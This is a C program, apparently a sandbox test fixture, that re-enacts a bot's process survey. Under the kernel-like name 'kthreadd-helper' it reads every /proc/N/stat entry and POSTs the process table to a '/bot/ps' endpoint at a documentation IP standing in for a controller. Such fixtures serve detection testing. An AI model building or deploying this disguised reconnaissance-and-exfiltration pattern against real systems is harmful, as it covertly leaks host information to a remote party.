/* kthreadd-helper: harmless re-enactment of a bot's process survey. Lists the processes itself
 * from /proc (no ps), reads each /proc/N/stat and POSTs the table to 198.51.100.31 (a
 * documentation address the sandbox answers). Bounded: one pass, one request. */
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

static char table[32768];

int main(void) {
    pid_t kids[2];
    for (int i = 0; i < 2; i++) {
        kids[i] = fork();
        if (kids[i] == 0) {
            sleep(30);
            _exit(0);
        }
    }
    usleep(200000);

    size_t used = 0;
    int n = 0;
    DIR *proc = opendir("/proc");
    if (!proc) return 1;
    struct dirent *d;
    while ((d = readdir(proc)) && used < sizeof(table) - 256) {
        if (!isdigit((unsigned char)d->d_name[0])) continue;
        char path[300], buf[512];
        snprintf(path, sizeof path, "/proc/%s/stat", d->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        size_t len = fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        buf[len] = 0;
        char *open = strchr(buf, '('), *close = strrchr(buf, ')');
        if (!open || !close || close < open) continue;
        *close = 0;
        char state = close[2];
        int ppid = atoi(close + 4);
        used += snprintf(table + used, sizeof table - used, "%s %d %c %s\n", d->d_name, ppid, state,
                         open + 1);
        n++;
    }
    closedir(proc);

    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval tv = {5, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(80)};
    inet_pton(AF_INET, "198.51.100.31", &sa.sin_addr);
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
        char head[256];
        int hl = snprintf(head, sizeof head,
                          "POST /bot/ps HTTP/1.1\r\nHost: 198.51.100.31\r\n"
                          "Content-Type: text/plain\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n",
                          used);
        write(s, head, hl);
        write(s, table, used);
        char reply[256];
        ssize_t r = read(s, reply, sizeof reply - 1);
        if (r > 0) {
            reply[r] = 0;
            printf("kthelper: %d processes sent: %.*s\n", n, (int)strcspn(reply, "\r\n"), reply);
        }
    } else {
        printf("kthelper: %d processes, no controller\n", n);
    }
    close(s);
    for (int i = 0; i < 2; i++) {
        kill(kids[i], SIGKILL);
        waitpid(kids[i], NULL, 0);
    }
    return 0;
}
